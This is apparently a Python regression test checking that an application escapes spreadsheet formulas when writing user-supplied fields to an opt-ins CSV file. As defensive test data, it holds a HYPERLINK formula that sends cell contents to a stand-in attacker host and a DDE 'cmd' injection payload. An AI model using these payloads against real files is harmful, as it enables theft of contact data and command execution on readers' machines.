"""Text from outside written to a CSV file is never a spreadsheet formula: a bot called the
opt-in template with `consumer_id` `=HYPERLINK(...)`, and the opt-ins file, opened in Excel
or LibreOffice as a brand reads it, ran it (other rows' phones sent to its author). Written
with a `'` before it, it reads back through the connection as it was given."""

from __future__ import annotations

import csv
from pathlib import Path

from lpstudio.studio import Studio
from tests.servers import serving

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_bot_s_formula_is_written_as_text_and_its_retry_finds_its_row(ws: Path) -> None:
    with Studio.open(ws, user="alice") as studio:
        studio.try_template("cb_optin", "bots")
        studio.connections.add("optins", "csv_file", {"path": "data/optins.csv"}, "alice")
        studio.start("bots/cb_optin.ipynb")
    optin = {"phone": "+14155550188", "channel": "sms", "opt_in": True}
    with serving(ws) as served:
        token = {"API-TOKEN": served.client_token()}
        answers = [
            served.api("bot", "POST", "/call/optin", headers=token, json=body)
            for body in (
                {**optin, "consumer_id": FORMULA, "source": "-2+3+cmd|' /C calc'!A0"},
                {**optin, "consumer_id": "-1,234.50", "source": "\tsms"},
                {**optin, "consumer_id": FORMULA},  # a retry: answered as before
            )
        ]
    for answer in answers:
        assert answer.status_code == 200, answer.text
    first, _, retry = (answer.json() for answer in answers)
    assert first["consumer_id"] == FORMULA and first["row"] == 1, first
    assert retry == first, retry
    with (ws / "data" / "optins.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 2, rows
    assert rows[0]["consumer_id"] == "'" + FORMULA
    assert rows[0]["source"] == "'-2+3+cmd|' /C calc'!A0"
    # A phone and a number-like value stay as they are: the opt-in list keeps its phones,
    # and every other reader of the file (pandas, a CRM import) gets them unchanged.
    assert rows[0]["phone"] == rows[1]["phone"] == "+14155550188"
    assert rows[1]["consumer_id"] == "-1,234.50" and rows[1]["source"] == "'\tsms"
